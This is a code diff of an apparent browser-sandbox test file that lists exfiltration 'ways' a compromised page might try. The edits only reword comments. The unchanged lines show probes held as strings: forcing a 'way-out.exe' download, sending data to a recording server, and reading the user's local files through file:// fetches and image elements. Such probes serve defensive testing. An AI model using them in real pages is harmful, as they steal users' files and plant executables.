@@ -1,6 +1,6 @@
 /**
- * What a page that was taken over may try to get a word out, or more than a page may have. All of it runs in the page itself; `open` is a
- * server that hears of everything that arrives, `udp` a socket that does, and `file` is a file of the person.
+ * What a compromised page may try in order to get a word out, or to get more than a page may have. All of it runs in the page itself;
+ * `open` is a server that records everything that arrives, `udp` a socket that does, and `file` is one of the person's files.
  */
 export interface Outside {
   readonly open: string;
@@ -10,7 +10,9 @@ export interface Outside {
 
 export interface Way {
   readonly name: string;
-  /** Answers what the way brought: `refused` by whatever name, or what was got. It may also do something that only `open` hears of. */
+  /**
+   * Returns the outcome: `refused`, however that is expressed, or what was obtained. It may also do something that only `open` notices.
+   */
   readonly take: string;
 }
 
@@ -107,7 +109,7 @@ const WAYS: Readonly<Record<string, string>> = {
     'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([word])); a.download = "way-out.exe"; a.click(); return "tried"',
   'download from elsewhere':
     'const a = document.createElement("a"); a.href = open + "/download"; a.download = "way-out.exe"; a.click(); return "tried"',
-  // Files of the person.
+  // The person's files.
   'file by fetch': 'await fetch("file://" + file); return "got"',
   'file by image': element(
     'img',
